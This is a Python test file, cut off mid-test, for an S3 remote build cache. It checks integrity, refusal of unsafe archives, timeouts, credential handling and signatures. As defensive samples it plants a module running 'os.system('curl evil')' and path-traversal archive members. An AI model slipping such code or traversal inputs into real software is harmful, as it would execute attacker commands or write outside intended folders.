"""The S3 remote tier against a real S3-compatible server (SeaweedFS, started by ``tests/s3server.py``).

Every scenario talks to the server over HTTP with boto3 exactly as a user's build would: the standard
AWS variables point it at 127.0.0.1, and the server's identities make wrong credentials and read-only
access real 403s. The end-to-end tests run ``cdk-native-python build`` and ``cdk synth`` as machine A
(trusted CI, writes) and machine B (a fresh laptop whose index is unreachable, reads).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from cdk_native_python.core.errors import ConfigurationError
from cdk_native_python.core.reporter import Reporter, silent
from cdk_native_python.core.settings import REMOTE_CACHE, REMOTE_CACHE_WRITE
from cdk_native_python.store import archive, remote, signing
from cdk_native_python.store.local import open_store
from cdk_native_python.store.remote import TIMEOUT_ENV, Pointer, RemoteCache, RemoteConfig
from cdk_native_python.store.signing import TRUSTED_KEYS_ENV, KeyMaterial, PublicKey
from tests.cdkhelpers import CDK, needs_cdk
from tests.helpers import ROOT, attack_fields, closed_port, plant_pins, write_function
from tests.s3server import ADMIN, READER, WRITER, S3Server, client_env
from tests.treehelpers import craft, empty_dir, member, normalised, snapshot, unsafe_cases
from tests.wheelfactory import WheelIndex, make_elf

PREFIX = "team/cache"
#: the end-to-end tests' remote cache prefix (as a team would set it)
E2E_PREFIX = "team"

REMOTE_URL_ENV, REMOTE_WRITE_ENV = REMOTE_CACHE.name, REMOTE_CACHE_WRITE.name


# -- helpers ---------------------------------------------------------------------------------------------------

@pytest.fixture
def use_aws(monkeypatch: pytest.MonkeyPatch) -> Callable[[dict[str, str]], None]:
    """Replace every AWS_* variable of this process by ``env`` (the standard ones boto3 reads)."""

    def use(env: dict[str, str]) -> None:
        for name in list(os.environ):
            if name.startswith("AWS_"):
                monkeypatch.delenv(name)
        for name, value in env.items():
            monkeypatch.setenv(name, value)

    return use


@pytest.fixture
def as_writer(s3_server: S3Server, use_aws: Callable[[dict[str, str]], None]) -> None:
    use_aws(s3_server.env(WRITER))


def cache(bucket: str, *, write: bool = False, reporter: Reporter | None = None, client: Any = None,
          trusted: tuple[PublicKey, ...] = (), key: KeyMaterial | None = None,
          state: remote._ProcessState | None = None) -> RemoteCache:
    """``state``: the process memory it shares (a new one: as a fresh process would start)."""
    return RemoteCache(RemoteConfig(f"s3://{bucket}/{PREFIX}", write, trusted, key), reporter or silent(),
                       client=client, state=state)


def new_key(name: str = "$TEST_SIGNING_KEY") -> tuple[KeyMaterial, PublicKey]:
    """A fresh Ed25519 signing key (as a writer reads it) and its public half (as readers list it)."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    material = KeyMaterial(Ed25519PrivateKey.generate().private_bytes_raw(), name)
    return material, material.signer().public


def plant(server: S3Server, bucket: str, kind: str, key: str, blob: bytes, fmt: str = archive.ZSTD) -> str:
    """Upload ``blob`` at its true sha256 address and a valid pointer to it; return the content key."""
    admin = server.client(ADMIN)
    rc = cache(bucket)
    digest = hashlib.sha256(blob).hexdigest()
    admin.put_object(Bucket=bucket, Key=rc.content_key(digest), Body=blob)
    admin.put_object(Bucket=bucket, Key=rc.pointer_key(kind, key),
                     Body=Pointer(kind, key, digest, len(blob), fmt).to_bytes())
    return rc.content_key(digest)


def codes(reporter: Reporter) -> list[str]:
    return [n.code for n in reporter.warnings]




# -- configuration ---------------------------------------------------------------------------------------------

def test_config_names_the_bucket_and_prefix() -> None:
    config = RemoteConfig("s3://my-bucket/team/cache/")
    assert config.write is False
    assert (config.bucket, config.prefix, config.location) == ("my-bucket", "team/cache", "s3://my-bucket/team/cache")
    root = RemoteConfig("s3://my.bucket-1", write=True)
    assert root.write and root.prefix == "" and root.location == "s3://my.bucket-1"


def test_the_environment_gives_the_url_and_the_write_switch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(REMOTE_WRITE_ENV, raising=False)
    monkeypatch.delenv(REMOTE_URL_ENV, raising=False)
    assert open_store(tmp_path / "cache").remote is None
    monkeypatch.setenv(REMOTE_WRITE_ENV, "1")
    assert open_store(tmp_path / "cache").remote is None  # writing without a URL is nothing
    monkeypatch.setenv(REMOTE_URL_ENV, "s3://my-bucket/team/cache/")
    for on in ("1", "true", "YES", "On"):
        monkeypatch.setenv(REMOTE_WRITE_ENV, on)
        remote = open_store(tmp_path / "cache").remote
        assert isinstance(remote, RemoteCache) and remote.config == RemoteConfig("s3://my-bucket/team/cache/", True)
    for off in ("", "0", "false", "no", "OFF"):
        monkeypatch.setenv(REMOTE_WRITE_ENV, off)
        remote = open_store(tmp_path / "cache").remote
        assert isinstance(remote, RemoteCache) and not remote.config.write


def test_a_bad_write_flag_is_an_error_wherever_the_url_comes_from(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """The URL from a construct option or --remote-cache: the environment's write switch still counts, so a
    typo in it is said, never read as "do not write"."""
    monkeypatch.delenv(REMOTE_URL_ENV, raising=False)
    monkeypatch.setenv(REMOTE_WRITE_ENV, "maybe")
    with pytest.raises(ConfigurationError) as err:
        open_store(tmp_path / "cache", remote_url="s3://bucket/team")
    assert err.value.code == "environment-invalid" and REMOTE_WRITE_ENV in err.value.message
    monkeypatch.setenv(REMOTE_WRITE_ENV, "1")
    store = open_store(tmp_path / "cache", remote_url="s3://bucket/team")
    assert isinstance(store.remote, RemoteCache) and store.remote.config.write
    off = open_store(tmp_path / "cache", remote_url="s3://bucket/team", remote_write=False).remote
    assert isinstance(off, RemoteCache) and not off.config.write


@pytest.mark.parametrize("url, why", [
    ("https://bucket/x", "must start with s3://"),
    ("s3://", "not an S3 bucket name"),
    ("s3://ab", "not an S3 bucket name"),
    ("s3://Bucket_Name/x", "not an S3 bucket name"),
    ("s3://bucket/../x", "prefix has the part '..'"),
    ("s3://bucket/a b", "prefix has the part 'a b'"),
    ("s3://bucket/x?versionId=1", "query or a fragment"),
    ("s3://bucket:9000/x", "ports do not belong"),
])
def test_bad_urls_are_configuration_errors_naming_the_url(url: str, why: str) -> None:
    with pytest.raises(ConfigurationError) as err:
        RemoteConfig(url)
    assert err.value.code == "remote-cache-url"
    assert why in err.value.message and repr(url) in err.value.message
    assert err.value.hint and "s3://BUCKET/PREFIX" in err.value.hint


def test_a_credential_in_the_url_is_refused_and_never_echoed() -> None:
    url = "s3://AKIAEXAMPLEKEY:wJalrXUtnFEMIsecretKEY@bucket/prefix"
    with pytest.raises(ConfigurationError) as err:
        RemoteConfig(url)
    assert "credentials" in err.value.message
    assert "AKIAEXAMPLEKEY" not in str(err.value) and "secretKEY" not in str(err.value)
    assert "s3://***@bucket/prefix" in err.value.message


def test_importing_the_module_loads_neither_boto3_nor_zstandard(tmp_path: Path) -> None:
    """Nor does opening a store with a remote configured: boto3 waits for the first local miss."""
    code = ("import sys, cdk_native_python.store.remote as r; "
            "from pathlib import Path; from cdk_native_python.store.local import open_store; "
            "r.RemoteConfig.from_env({'CDK_NATIVE_PYTHON_REMOTE_CACHE': 's3://bucket'}); "
            f"open_store(Path({str(tmp_path / 'cache')!r}), remote_url='s3://bucket/team', "
            "trusted_keys=['ed25519:' + 'A' * 43 + '=']); "
            "heavy = ('boto3', 'botocore', 's3transfer', 'zstandard', 'cryptography'); "
            "print(sorted(m for m in sys.modules if m.split('.')[0] in heavy))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT)
    assert out.stdout.strip() == "[]"


# -- round trip ------------------------------------------------------------------------------------------------

@pytest.mark.usefixtures("as_writer")
def test_round_trip_of_an_installed_tree(s3_server: S3Server, s3_bucket: str, tree_entry: Path, tmp_path: Path,
                                         use_aws: Callable[[dict[str, str]], None]) -> None:
    writer = silent()
    cache(s3_bucket, write=True, reporter=writer).push("trees", "k1", tree_entry)
    assert writer.notices == []
    objects = s3_server.keys(s3_bucket)
    pointer_key = f"{PREFIX}/v1/ac/trees/k1.json"
    pointer = json.loads(objects[pointer_key])
    digest = pointer["digest"].removeprefix("sha256:")
    content_key = f"{PREFIX}/v1/cas/sha256/{digest[:2]}/{digest}"
    assert sorted(objects) == sorted([pointer_key, content_key])
    assert hashlib.sha256(objects[content_key]).hexdigest() == digest
    assert pointer["size"] == len(objects[content_key]) and pointer["format"] == "tar+zstd"
    assert pointer["tool"].startswith("cdk-native-python ")
    # the server stored the checksum we sent (x-amz-checksum-sha256), so it verified the upload too
    head = s3_server.client().head_object(Bucket=s3_bucket, Key=content_key, ChecksumMode="ENABLED")
    assert head.get("ChecksumSHA256") == __import__("base64").b64encode(bytes.fromhex(digest)).decode()

    use_aws(s3_server.env(READER))  # a laptop: read-only credentials, a fresh process's memory
    laptop = remote._ProcessState()
    reader = silent()
    dest = empty_dir(tmp_path / "scratch" / "dest")
    assert cache(s3_bucket, reporter=reader, state=laptop).fetch("trees", "k1", dest) is True
    assert reader.notices == []
    got = snapshot(dest)
    assert got == normalised(snapshot(tree_entry))
    assert got["tree/tool.sh"][1] == 0o755 and got["tree/private.cfg"][1] == 0o644
    assert got["tree/empty/nested"] == ("dir", 0o755)
    assert sorted(os.listdir(dest.parent)) == ["dest"], "the downloaded archive left nothing behind"
    # a miss is just a miss
    other = empty_dir(tmp_path / "other")
    assert cache(s3_bucket, reporter=reader, state=laptop).fetch("trees", "nope", other) is False
    assert reader.notices == [] and not any(other.iterdir())


def test_a_gzip_entry_written_without_zstandard_is_read(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                         tmp_path: Path, as_writer: None) -> None:
    blob = io.BytesIO()
    archive.pack(tree_entry, blob, archive.GZIP)
    plant(s3_server, s3_bucket, "trees", "gz", blob.getvalue(), archive.GZIP)
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket).fetch("trees", "gz", dest) is True
    assert snapshot(dest) == normalised(snapshot(tree_entry))


# -- integrity ---------------------------------------------------------------------------------------------------

@pytest.mark.usefixtures("as_writer")
@pytest.mark.parametrize("tamper", ["flip-a-byte", "valid-archive-of-other-code"])
def test_tampered_content_is_detected_and_nothing_extracted(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                            tmp_path: Path, tamper: str) -> None:
    cache(s3_bucket, write=True).push("trees", "k1", tree_entry)
    admin = s3_server.client(ADMIN)
    content_key = next(k for k in s3_server.keys(s3_bucket) if "/cas/" in k)
    original = admin.get_object(Bucket=s3_bucket, Key=content_key)["Body"].read()
    if tamper == "flip-a-byte":
        evil = bytearray(original)
        evil[len(evil) // 2] ^= 0xFF
        blob = bytes(evil)
    else:  # same size is not required: a well-formed archive that would ship other code
        blob = craft([member("tree/evil.py", data=b"import os; os.system('curl evil')\n")])
    admin.put_object(Bucket=s3_bucket, Key=content_key, Body=blob)
    reporter = silent()
    dest = empty_dir(tmp_path / "area" / "dest")
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "k1", dest) is False
    assert list(dest.iterdir()) == [] and sorted(os.listdir(dest.parent)) == ["dest"]
    assert codes(reporter) == ["remote-cache-corrupt"]
    message = reporter.warnings[0].message
    assert content_key in message and f"s3://{s3_bucket}/{PREFIX}" in message and "building locally" in message
    # said once per process: a second corrupt fetch stays quiet, and still fails safely
    again = empty_dir(tmp_path / "again")
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "k1", again) is False
    assert len(reporter.warnings) == 1 and not any(again.iterdir())


@pytest.mark.usefixtures("as_writer")
def test_a_pointer_to_a_missing_blob_is_a_miss_with_a_warning(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                              tmp_path: Path) -> None:
    cache(s3_bucket, write=True).push("trees", "k1", tree_entry)
    content_key = next(k for k in s3_server.keys(s3_bucket) if "/cas/" in k)
    s3_server.client(ADMIN).delete_object(Bucket=s3_bucket, Key=content_key)
    reporter = silent()
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "k1", dest) is False
    assert codes(reporter) == ["remote-cache-missing"] and content_key in reporter.warnings[0].message
    assert not any(dest.iterdir())


@pytest.mark.usefixtures("as_writer")
def test_a_writer_restores_expired_content_behind_a_pointer(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                            tmp_path: Path) -> None:
    """Lifecycle rules expire content by its own age, which can be older than a pointer to it: the next
    writer that builds the tree_entry uploads the same bytes again, and the tree_entry works once more."""
    cache(s3_bucket, write=True).push("trees", "k1", tree_entry)
    objects = s3_server.keys(s3_bucket)
    content_key = next(k for k in objects if "/cas/" in k)
    s3_server.client(ADMIN).delete_object(Bucket=s3_bucket, Key=content_key)
    reporter = silent()
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "k1", empty_dir(tmp_path / "miss")) is False
    cache(s3_bucket, write=True, reporter=reporter).push("trees", "k1", tree_entry)
    assert codes(reporter) == ["remote-cache-missing"], "the miss was said, the repair was silent"
    assert s3_server.keys(s3_bucket) == objects
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "k1", dest) is True
    assert snapshot(dest) == normalised(snapshot(tree_entry))


@pytest.mark.usefixtures("as_writer")
def test_one_warning_per_kind_of_failure_per_process(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                     tmp_path: Path) -> None:
    """Ten functions missing ten blobs: the first construct's reporter says it once, the others stay quiet."""
    rc = cache(s3_bucket, write=True)
    admin = s3_server.client(ADMIN)
    for key in ("k1", "k2"):
        rc.push("trees", key, tree_entry)
        blob = next(k for k in s3_server.keys(s3_bucket) if "/cas/" in k)
        admin.delete_object(Bucket=s3_bucket, Key=blob)
        (tree_entry / "tree" / "extra").write_text(key)  # the next key gets other content
    first, second = silent(), silent()
    assert cache(s3_bucket, reporter=first).fetch("trees", "k1", empty_dir(tmp_path / "a")) is False
    assert cache(s3_bucket, reporter=second).fetch("trees", "k2", empty_dir(tmp_path / "b")) is False
    assert codes(first) == ["remote-cache-missing"] and codes(second) == []
    # another kind of failure is still said once
    admin.put_object(Bucket=s3_bucket, Key=f"{PREFIX}/v1/ac/trees/k3.json", Body=b"garbage")
    assert cache(s3_bucket, reporter=second).fetch("trees", "k3", empty_dir(tmp_path / "c")) is False
    assert codes(second) == ["remote-cache-corrupt"]


@pytest.mark.usefixtures("as_writer")
@pytest.mark.parametrize("body", [b"not json", b'{"schema": "other"}', b"[]",
                                  b'{"schema": "cdk-native-python/remote-pointer/2", "digest": "sha256:../../x", '
                                  b'"size": 10, "format": "tar+zstd", "kind": "locks", "key": "k", "tool": ""}'])
def test_a_garbage_pointer_is_a_miss_with_a_warning(s3_server: S3Server, s3_bucket: str, tmp_path: Path,
                                                    body: bytes) -> None:
    s3_server.client(ADMIN).put_object(Bucket=s3_bucket, Key=f"{PREFIX}/v1/ac/locks/k.json", Body=body)
    reporter = silent()
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket, reporter=reporter).fetch("locks", "k", dest) is False
    assert codes(reporter) == ["remote-cache-corrupt"] and "pointer" in reporter.warnings[0].message
    assert not any(dest.iterdir())


@pytest.mark.usefixtures("as_writer")
@pytest.mark.parametrize("case", ["dot-dot", "absolute", "symlink-then-write-through", "hardlink", "char-device"])
def test_unsafe_archives_are_refused_and_nothing_is_written(s3_server: S3Server, s3_bucket: str, tmp_path: Path,
                                                            case: str) -> None:
    """Uploaded under their true digest with a valid pointer: the digest matches, extraction still refuses."""
    outside = empty_dir(tmp_path / "outside")
    dest = empty_dir(tmp_path / "area" / "work" / "dest")
    reason, members = unsafe_cases(outside)[case]
    content_key = plant(s3_server, s3_bucket, "trees", "evil", craft(members))
    reporter = silent()
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "evil", dest) is False
    assert codes(reporter) == ["remote-cache-corrupt"]
    message = reporter.warnings[0].message
    assert content_key in message and "refused" in message and reason in message
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == [
        "area", "area/work", "area/work/dest", "outside"], "nothing written inside or outside"


# -- failures ------------------------------------------------------------------------------------------------------

def test_server_down_is_one_quick_warning_then_no_more_tries(tmp_path: Path,
                                                             use_aws: Callable[[dict[str, str]], None]) -> None:
    port = closed_port()  # nothing listens there
    use_aws(client_env(f"http://127.0.0.1:{port}", WRITER))
    fresh = remote._ProcessState()
    reporter = silent()
    rc = cache("some-bucket", write=True, reporter=reporter, state=fresh)
    dest = empty_dir(tmp_path / "dest")
    start = time.perf_counter()
    assert rc.fetch("trees", "k1", dest) is False
    first = time.perf_counter() - start
    start = time.perf_counter()
    assert cache("some-bucket", write=True, reporter=reporter, state=fresh).fetch("locks", "k2", dest) is False
    rc.push("trees", "k1", tmp_path)
    later = time.perf_counter() - start
    assert codes(reporter) == ["remote-cache-unreachable"]
    message = reporter.warnings[0].message
    assert f"127.0.0.1:{port}" in message and "s3://some-bucket/team/cache" in message
    assert "building locally" in message
    assert first < 3.0, f"the first failure took {first:.2f}s"
    assert later < 0.05, f"the endpoint was tried again ({later:.2f}s)"
    assert not any(dest.iterdir())
    print(f"\nunreachable remote: first fetch {first * 1000:.0f} ms, later calls {later * 1000:.1f} ms")


def test_a_blackholed_endpoint_costs_the_connect_timeouts_once(tmp_path: Path,
                                                                use_aws: Callable[[dict[str, str]], None]) -> None:
    """A listener whose accept queue is full drops new SYNs, as a firewall that drops packets would."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(0)
    port = listener.getsockname()[1]
    fillers = []
    try:
        for _ in range(3):
            filler = socket.socket()
            filler.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                filler.connect(("127.0.0.1", port))
            fillers.append(filler)
        time.sleep(0.1)
        use_aws(client_env(f"http://127.0.0.1:{port}", READER))
        fresh = remote._ProcessState()
        remote._default_client(fresh)  # made beforehand: only the network part is timed
        reporter = silent()
        start = time.perf_counter()
        assert cache("some-bucket", reporter=reporter, state=fresh).fetch("trees", "k",
                                                                          empty_dir(tmp_path / "d")) is False
        elapsed = time.perf_counter() - start
        assert codes(reporter) == ["remote-cache-unreachable"]
        assert f"connect timeout to http://127.0.0.1:{port}" in reporter.warnings[0].message
        assert elapsed < 3.0, f"an unreachable remote must cost at most a couple of seconds, not {elapsed:.2f}s"
        print(f"\nblackholed remote: first fetch {elapsed:.2f} s")
    finally:
        for filler in fillers:
            filler.close()
        listener.close()


def test_a_server_that_never_answers_costs_a_bounded_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                          use_aws: Callable[[dict[str, str]], None]) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)  # accepts (the kernel does) and never answers
    try:
        use_aws(client_env(f"http://127.0.0.1:{listener.getsockname()[1]}", READER))
        fresh = remote._ProcessState()
        monkeypatch.setattr(remote, "READ_TIMEOUT", 0.5)
        reporter = silent()
        start = time.perf_counter()
        assert cache("some-bucket", reporter=reporter, state=fresh).fetch("trees", "k",
                                                                          empty_dir(tmp_path / "d")) is False
        elapsed = time.perf_counter() - start
        assert codes(reporter) == ["remote-cache-unreachable"] and "read timeout" in reporter.warnings[0].message
        assert elapsed < remote.ATTEMPTS * (0.5 + 1) + 1, f"{elapsed:.2f}s"
        start = time.perf_counter()
        assert cache("some-bucket", reporter=reporter, state=fresh).fetch("trees", "k",
                                                                          empty_dir(tmp_path / "e")) is False
        assert time.perf_counter() - start < 0.05
    finally:
        listener.close()


@pytest.mark.parametrize("who", ["wrong-secret", "unknown-key"])
def test_rejected_credentials_are_a_warning_without_the_credentials(
        s3_server: S3Server, s3_bucket: str, tmp_path: Path, use_aws: Callable[[dict[str, str]], None],
        who: str) -> None:
    credentials = (READER[0], "not-the-secret-9f8e7d") if who == "wrong-secret" else ("NOSUCHKEY12345", "whatever-77")
    use_aws(s3_server.env(credentials))
    reporter = silent()
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket, write=True, reporter=reporter).fetch("trees", "k", dest) is False
    assert codes(reporter) == ["remote-cache-credentials"]
    line = reporter.warnings[0].line("Stack/Fn")
    assert credentials[0] not in line and credentials[1] not in line and "rejected" in line
    # the same credentials will not work for the rest of the process: no more requests, no more warnings
    start = time.perf_counter()
    cache(s3_bucket, write=True, reporter=reporter).push("trees", "k", tmp_path)
    assert time.perf_counter() - start < 0.05 and len(reporter.warnings) == 1


def test_no_credentials_at_all_is_a_warning(s3_server: S3Server, s3_bucket: str, tmp_path: Path,
                                             use_aws: Callable[[dict[str, str]], None]) -> None:
    env = s3_server.env(READER)
    del env["AWS_ACCESS_KEY_ID"], env["AWS_SECRET_ACCESS_KEY"]
    use_aws(env)  # metadata service disabled: the chain ends without credentials, and no request leaves 127.0.0.1
    reporter = silent()
    assert cache(s3_bucket, reporter=reporter).fetch("trees", "k", empty_dir(tmp_path / "dest")) is False
    assert codes(reporter) == ["remote-cache-credentials"]
    assert "no usable AWS credentials" in reporter.warnings[0].message


def test_read_only_credentials_with_the_write_flag_are_a_warning(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                                 use_aws: Callable[[dict[str, str]], None]) -> None:
    use_aws(s3_server.env(READER))
    reporter = silent()
    cache(s3_bucket, write=True, reporter=reporter).push("trees", "k1", tree_entry)
    assert codes(reporter) == ["remote-cache-write-denied"]
    assert "s3:PutObject" in reporter.warnings[0].message and "not shared" in reporter.warnings[0].message
    assert s3_server.keys(s3_bucket) == {}


@pytest.mark.usefixtures("as_writer")
def test_a_read_only_client_writes_nothing(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                           tmp_path: Path) -> None:
    """Even holding credentials that could write: without the write flag, nothing is uploaded."""
    before = s3_server.keys(s3_bucket)
    reporter = silent()
    rc = cache(s3_bucket, write=False, reporter=reporter)
    assert rc.fetch("trees", "k1", empty_dir(tmp_path / "dest")) is False
    rc.push("trees", "k1", tree_entry)
    rc.push("locks", "k1", tree_entry)
    assert s3_server.keys(s3_bucket) == before == {}
    assert reporter.notices == []


def test_a_read_only_client_never_imports_boto3_to_push(tmp_path: Path) -> None:
    code = ("import sys; from pathlib import Path; import cdk_native_python.store.remote as r; "
            "r.RemoteCache(r.RemoteConfig('s3://bucket/p')).push('trees', 'k', Path('.')); "
            "print('boto3' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=tmp_path)
    assert out.stdout.strip() == "False"


def test_without_boto3_one_warning_says_what_to_install(tmp_path: Path) -> None:
    """``sys.modules['boto3'] = None`` makes ``import boto3`` fail exactly as when it is not installed."""
    code = ("import sys; sys.modules['boto3'] = None\n"
            "from pathlib import Path\n"
            "import cdk_native_python.store.remote as r\n"
            "from cdk_native_python.core.reporter import silent\n"
            "rep = silent()\n"
            "for i in range(3):\n"
            "    d = Path(f'd{i}'); d.mkdir()\n"
            "    rc = r.RemoteCache(r.RemoteConfig('s3://bucket/p', write=True), rep)\n"
            "    assert rc.fetch('trees', 'k', d) is False\n"
            "    rc.push('trees', 'k', d)\n"
            "print([(n.code, n.message) for n in rep.warnings])\n")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=tmp_path)
    warnings = eval(out.stdout)  # a list of tuples of str printed by the child
    assert len(warnings) == 1 and warnings[0][0] == "remote-cache-unavailable"
    assert "pip install 'cdk-native-python[s3]'" in warnings[0][1] and "building locally" in warnings[0][1]


@pytest.mark.usefixtures("as_writer")
def test_a_tree_with_a_symlink_is_not_shared(s3_server: S3Server, s3_bucket: str, tmp_path: Path) -> None:
    src = empty_dir(tmp_path / "entry" / "tree")
    (src / "real.py").write_text("x = 1\n")
    (src / "link.py").symlink_to("real.py")
    reporter = silent()
    cache(s3_bucket, write=True, reporter=reporter).push("trees", "k", src.parent)
    assert codes(reporter) == ["remote-cache-failed"] and "tree/link.py is a symlink" in reporter.warnings[0].message
    assert s3_server.keys(s3_bucket) == {}


def test_fetching_into_a_folder_that_is_not_empty_is_a_bug(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(ValueError, match="not empty"):
        cache("bucket").fetch("trees", "k", tmp_path)
    with pytest.raises(ValueError, match="not a cache kind and key"):
        cache("bucket").pointer_key("trees", "../k")


# -- concurrent writers ----------------------------------------------------------------------------------------------

class _AfterCheck(RemoteCache):
    """A writer that waits at ``barrier`` after looking for the key: both writers of a race then upload."""

    barrier: threading.Barrier

    def _read_pointer(self, client: Any, pointer_key: str, deadline: float | None = None) -> Pointer | None:
        found = super()._read_pointer(client, pointer_key, deadline)
        self.barrier.wait(timeout=30)
        return found


def _race(s3_server: S3Server, bucket: str, trees: list[Path], reporter: Reporter) -> None:
    barrier = threading.Barrier(len(trees))
    writers = []
    for _ in trees:
        writer = _AfterCheck(RemoteConfig(f"s3://{bucket}/{PREFIX}", write=True), reporter,
                             client=s3_server.client(WRITER))
        writer.barrier = barrier
        writers.append(writer)
    errors: list[BaseException] = []

    def run(writer: RemoteCache, tree: Path) -> None:
        try:
            writer.push("trees", "raced", tree)
        except BaseException as exc:  # pragma: no cover - push never raises; record it if it does
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(w, t)) for w, t in zip(writers, trees, strict=True)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert errors == []


@pytest.mark.usefixtures("as_writer")
def test_two_writers_racing_on_one_key_both_succeed_with_one_object(s3_server: S3Server, s3_bucket: str,
                                                                     tree_entry: Path, tmp_path: Path) -> None:
    reporter = silent()
    _race(s3_server, s3_bucket, [tree_entry, tree_entry], reporter)
    assert reporter.notices == []
    objects = s3_server.keys(s3_bucket)
    assert len([k for k in objects if "/ac/" in k]) == 1 and len([k for k in objects if "/cas/" in k]) == 1
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket).fetch("trees", "raced", dest) is True
    assert snapshot(dest) == normalised(snapshot(tree_entry))


@pytest.mark.usefixtures("as_writer")
def test_racing_writers_of_different_content_the_first_pointer_wins(s3_server: S3Server, s3_bucket: str,
                                                                     tree_entry: Path, tmp_path: Path) -> None:
    """Two machines whose compressors differ (another zstd build) upload different bytes for one key:
    both contents are stored, one pointer wins and stays, both writers report success."""
    import shutil

    other = tmp_path / "other"
    shutil.copytree(tree_entry, other)
    (other / "tree" / "extra.txt").write_text("different bytes\n")
    reporter = silent()
    _race(s3_server, s3_bucket, [tree_entry, other], reporter)
    assert reporter.notices == []
    objects = s3_server.keys(s3_bucket)
    pointers = [k for k in objects if "/ac/" in k]
    assert len(pointers) == 1 and len([k for k in objects if "/cas/" in k]) == 2
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket).fetch("trees", "raced", dest) is True
    assert snapshot(dest) in (normalised(snapshot(tree_entry)), normalised(snapshot(other)))


@pytest.mark.usefixtures("as_writer")
def test_a_late_writer_gets_412_and_counts_it_as_success(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                         tmp_path: Path) -> None:
    """The loser of a race (it checked before the winner wrote) finds the pointer there: HTTP 412, no warning,
    and the winner's pointer is untouched."""
    import shutil

    cache(s3_bucket, write=True).push("trees", "k1", tree_entry)
    first = s3_server.keys(s3_bucket)
    other = tmp_path / "other"
    shutil.copytree(tree_entry, other)
    (other / "tree" / "extra.txt").write_text("different bytes\n")
    late = _AfterCheck(RemoteConfig(f"s3://{s3_bucket}/{PREFIX}", write=True), silent())
    late.barrier = threading.Barrier(1)
    late._read_pointer = lambda client, key, deadline=None: None  # type: ignore[method-assign]  # it looked before the winner wrote
    late.push("trees", "k1", other)
    assert late.reporter.notices == []
    after = s3_server.keys(s3_bucket)
    pointer_key = f"{PREFIX}/v1/ac/trees/k1.json"
    assert after[pointer_key] == first[pointer_key], "the first writer's pointer stays"
    assert len(after) == 3  # its content was uploaded (another digest) but nothing points at it


# -- signatures and binding ------------------------------------------------------------------------------------

def pointer_doc(server: S3Server, bucket: str, kind: str, key: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(server.keys(bucket)[f"{PREFIX}/v1/ac/{kind}/{key}.json"])
    return doc


def put_pointer(server: S3Server, bucket: str, kind: str, key: str, doc: dict[str, Any]) -> None:
    server.client(ADMIN).put_object(Bucket=bucket, Key=f"{PREFIX}/v1/ac/{kind}/{key}.json",
                                    Body=json.dumps(doc).encode())


def evil_blob(tree_entry: Path) -> bytes:
    """The honest entry plus a module of the attacker's: what a bucket writer would plant."""
    with tempfile.TemporaryDirectory() as tmp:
        evil = Path(tmp) / "e"
        shutil.copytree(tree_entry, evil)
        (evil / "tree" / "evil.py").write_text("import os; os.system('curl evil')\n")
        out = io.BytesIO()
        archive.pack(evil, out)
        return out.getvalue()


@pytest.mark.usefixtures("as_writer")
def test_a_signed_entry_round_trips_and_its_pointer_is_bound(s3_server: S3Server, s3_bucket: str, tree_entry: Path,
                                                            tmp_path: Path) -> None:
    key, public = new_key()
    writer = silent()
    cache(s3_bucket, write=True, reporter=writer, trusted=(public,), key=key).push("trees", "k1", tree_entry)
    assert writer.notices == []
    doc = pointer_doc(s3_server, s3_bucket, "trees", "k1")
    assert (doc["kind"], doc["key"], doc["signer"]) == ("trees", "k1", public.id)
    assert len(public.id) == 16 and len(base64.b64decode(doc["signature"])) == 64
    reader = silent()
    dest = empty_dir(tmp_path / "dest")
    assert cache(s3_bucket, reporter=reader, trusted=(public,)).fetch("trees", "k1", dest) is True
    assert reader.notices == [] and snapshot(dest) == normalised(snapshot(tree_entry))


@pytest.mark.usefixtures("as_writer")
@pytest.mark.parametrize("signed", [True, False])
def test_without_trusted_keys_signed_and_unsigned_entries_are_read(s3_server: S3Server, s3_bucket: str,
                                                                   tree_entry: Path, tmp_path: Path,
                                                                   signed: bool) -> None:
    key, _ = new_key()
    cache(s3_bucket, write=True, key=key if signed else None).push("trees", "k1", tree_entry)
